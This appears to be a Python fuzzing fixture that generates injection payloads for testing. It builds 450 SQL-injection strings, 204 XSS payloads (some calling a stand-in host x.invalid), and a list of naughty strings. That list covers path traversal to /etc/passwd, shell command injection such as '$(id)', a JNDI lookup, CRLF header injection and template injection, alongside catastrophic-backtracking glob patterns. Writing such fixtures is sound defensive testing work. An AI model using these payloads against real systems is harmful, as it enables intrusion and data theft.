"""Hostile texts, made here: what breaks out of SQL, of HTML, of a log line, of a pattern."""

from __future__ import annotations

import itertools

_CLOSERS = ["'", "''", "\\'", '"', "`", "')", "'))", "%27", "\u2019", "'\x00"]
_QUERIES = [
    " OR 1=1",
    " OR '1'='1",
    "; DROP TABLE segments",
    "; SELECT 1",
    " UNION SELECT * FROM system.tables",
    " UNION ALL SELECT 1,2,3",
    " AND sleep(3)",
    " OR throwIf(1)",
    " OR file('/etc/passwd') != ''",
    " INTO OUTFILE '/tmp/x'",
    " FORMAT JSON",
    " SETTINGS max_threads=0",
    " OR url('http://127.0.0.1:1','CSV','x String') = ''",
    " OR account != ''",
    " /*",
]
_COMMENTS = ["", " -- ", " #"]
SQL = ["".join(parts) for parts in itertools.product(_CLOSERS, _QUERIES, _COMMENTS)]
"""450 ways to end a literal and go on."""

_CALLS = ["window.__broken=1", "alert(1)", "location='https://x.invalid'", "fetch('//x.invalid')"]
_HTML = [
    "<script>{}</script>",
    '"><script>{}</script>',
    "'><svg onload={}>",
    "<img src=x onerror={}>",
    '"><img src=x onerror="{}">',
    "<svg><script>{}</script></svg>",
    "<body onload={}>",
    "<iframe src=javascript:{}>",
    "<a href=javascript:{}>x</a>",
    "<math><mi//xlink:href=data:x,{}>",
    "<input autofocus onfocus={}>",
    "<details open ontoggle={}>",
    "<video><source onerror={}>",
    "<marquee onstart={}>",
    "<form action=javascript:{}><button>",
    "<object data=javascript:{}>",
    "<embed src=javascript:{}>",
    "<base href=javascript:{}//>",
    "<link rel=stylesheet href=javascript:{}>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<style>@import 'javascript:{}'</style>",
    "<template><script>{}</script></template>",
    "</title><script>{}</script>",
    "</textarea><script>{}</script>",
    "--><script>{}</script>",
    "]]><script>{}</script>",
    "</script><script>{}</script>",
    "javascript:{}",
    "JaVaScRiPt:{}",
    " javascript:{}",
    "java\tscript:{}",
    "data:text/html,<script>{}</script>",
    "vbscript:{}",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}&#60;/script&#62;",
    "%3Cscript%3E{}%3C/script%3E",
    "<scr\x00ipt>{}</scr\x00ipt>",
    "<<script>{}//<</script>",
    "<img/src='x'/onerror={}>",
    "<x onclick={}>x",
    "${{{}}}",
    "{{{{constructor.constructor('{}')()}}}}",
    "<svg><animate onbegin={} attributeName=x>",
    "<svg><a xlink:href=javascript:{}><text>x</text></a></svg>",
    "<isindex action=javascript:{}>",
    "`-{}-`",
    "';{}//",
    '";{}//',
    "\\';{}//",
    "__proto__[x]={}",
]
HTML = [form.format(call) for form in _HTML for call in _CALLS]
"""204 ways to have a page do something."""

NAUGHTY = [
    *("", " ", "\t", "\n", "\r\n", "\0", "\x1b[31mred\x1b[0m", "\x7f", "\ufeff", "\u202etxet", "\u2028", "\u2029"),
    *("null", "undefined", "NaN", "Infinity", "true", "None", "nil", "0", "-0", "1e999", "0x0", "1/0", "9" * 400),
    *("é", "e\u0301", "İ", "ß", "ﬁ", "Ω", "👩‍👩‍👧", "\U0010ffff", "𝒳", "田中さん", "مرحبا", "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍"),
    *("../../../../etc/passwd", "..\\..\\x", "/dev/null", "C:\\con", "file:///etc/passwd", "~root", "$HOME", "`id`"),
    *("$(id)", "; id", "| id", "&& id", "%s%s%s%n", "%d", "{0}", "{}", "${jndi:ldap://x.invalid/a}", "#{7*7}"),
    *("{{7*7}}", "<%= 7*7 %>", "*)(uid=*", "\\", "\\\\", "\\x00", "%00", "%0d%0aX: y", "\r\nSet-Cookie: a=b"),
    *('{"$gt":""}', "__proto__", "constructor", "toString", "hasOwnProperty", "__class__", "self.__dict__", "len"),
    *("x" * 300, "x" * 5000, '"' * 100, "(" * 500, "[" * 500, "*" * 100, "?" * 100, "." * 100, "%" * 101),
]

GLOBS = [
    (piece * times + end, text * length + last)
    for piece, text in [
        ("*a", "a"),
        ("a*", "a"),
        ("*?", "b"),
        ("**", "c"),
        ("*ab", "ab"),
        ("?*a", "aa"),
        ("*a*b", "ab"),
    ]
    for times in (1, 2, 5, 8, 12, 20, 50)
    for end in ("", "x", "*x", "?")
    for length in (10, 40, 200, 500, 1000)
    for last in ("", "y")
][:1400]
"""Patterns that a regular expression takes for ever to say no to, each with the text for it."""
